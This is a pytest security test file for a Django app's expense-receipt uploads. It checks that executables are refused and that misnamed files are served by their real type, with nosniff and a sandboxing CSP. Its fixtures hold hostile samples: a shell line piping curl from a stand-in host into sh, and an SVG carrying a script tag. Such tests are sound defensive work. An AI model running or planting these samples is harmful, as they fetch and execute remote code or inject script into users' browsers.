"""Receipt uploads are judged by their content and served so no browser runs them.

Already covered elsewhere (not repeated here): HTML renamed .pdf and GIF refused, the size
limit, files of a failed write removed (tests/psa/services/test_expenses.py); the refusal in
the API's error shape (tests/psa/api/test_expense_api.py); downloads only for who may see the
expense, with `attachment` and `nosniff`, and MEDIA_ROOT not served
(tests/psa/pages/test_expenses.py, tests/psa/api/test_expense_api.py).
Added here: executables and scripts are refused, and a file whose name lies about its type is
stored and served as what its bytes are, never as what its name says.
"""

from __future__ import annotations

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from psa import roles
from psa.errors import ReceiptError
from psa.models import Expense
from psa.services.receipts import receipt_sniff
from tests.security.conftest import Firm
from tests.security.world import PDF

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 17

pytestmark = pytest.mark.django_db

EXECUTABLES = {
    "windows.exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48,
    "linux.elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,
    "script.sh": b"#!/bin/sh\ncurl http://example.invalid | sh\n",
    "macho": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24,
    "image.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "archive.zip": b"PK\x03\x04\x14\x00\x00\x00" + b"\x00" * 24,
}


def upload(content: bytes, name: str, content_type: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


@pytest.mark.parametrize("name", sorted(EXECUTABLES))
@pytest.mark.parametrize("disguise", ["receipt.pdf", "receipt.png", "receipt.jpg"])
def test_executables_are_refused_whatever_their_name(name, disguise):
    declared = {"receipt.pdf": "application/pdf", "receipt.png": "image/png",
                "receipt.jpg": "image/jpeg"}[disguise]

    with pytest.raises(ReceiptError) as refused:
        receipt_sniff(upload(EXECUTABLES[name], disguise, declared))

    assert refused.value.attr == "receipt"


def test_an_executable_through_the_expense_form_writes_nothing(firm: Firm):
    browser = firm.principals[roles.CONSULTANT].client
    before = Expense.objects.count()

    response = browser.post("/expenses/new/", {
        "project": firm.world.own.project.pk, "expense_date": "2026-03-16",
        "category": "meals", "merchant": "Malware Inc", "amount": "12.00", "currency": "USD",
        "receipt": upload(EXECUTABLES["windows.exe"], "receipt.pdf", "application/pdf")})

    assert response.status_code == 400
    assert "receipt" in response.context["form"].errors
    assert Expense.objects.count() == before


def _create(firm: Firm, content: bytes, name: str, declared: str) -> dict:
    api = firm.principals[roles.CONSULTANT].client
    response = api.post("/api/v1/expenses/", {
        "project": firm.world.own.project.pk, "expense_date": "2026-03-16",
        "category": "meals", "merchant": "Cafe", "amount": "12.00",
        "receipt": upload(content, name, declared)})
    assert response.status_code == 201, response.content
    return response.json()


DOWNLOADS = ["/api/v1/expenses/{id}/receipt/", "/expenses/{id}/receipt/"]


class TestNameThatLies:
    """A file whose name or declared type lies is stored and served as what its bytes are.

    A PDF called receipt.png is accepted, not refused: the type never comes from the name, so
    the name cannot make a browser treat the file as anything but a PDF (psa/services/
    receipts.py). Downloads carry the sniffed type, `nosniff` and a sandboxing CSP; PDFs are
    attachments, images open inline (psa/views/expenses.py, receipt_file_response).
    """

    @pytest.mark.parametrize("url", DOWNLOADS)
    def test_a_pdf_named_png_is_a_pdf_attachment(self, firm, url):
        created = _create(firm, PDF, "receipt.png", "image/png")
        assert created["receipt_content_type"] == "application/pdf"

        response = firm.principals[roles.CONSULTANT].client.get(url.format(id=created["id"]))

        assert response.status_code == 200
        assert response["Content-Type"] == "application/pdf"
        assert response["Content-Disposition"].startswith("attachment")
        assert ".png" not in response["Content-Disposition"]
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
        assert b"".join(response.streaming_content) == PDF

    @pytest.mark.parametrize("url", DOWNLOADS)
    def test_a_png_named_pdf_is_an_image_in_a_sandbox(self, firm, url):
        created = _create(firm, PNG, "receipt.pdf", "application/pdf")
        assert created["receipt_content_type"] == "image/png"

        response = firm.principals[roles.CONSULTANT].client.get(url.format(id=created["id"]))

        assert response["Content-Type"] == "image/png"
        assert ".pdf" not in response["Content-Disposition"]
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"

    def test_stored_under_a_name_of_our_own(self, firm):
        created = _create(firm, PDF, "receipt.png", "image/png")

        stored = Expense.objects.get(pk=created["id"]).receipt.name

        assert "receipt" not in stored.rsplit("/", 1)[-1] and not stored.endswith(".png")
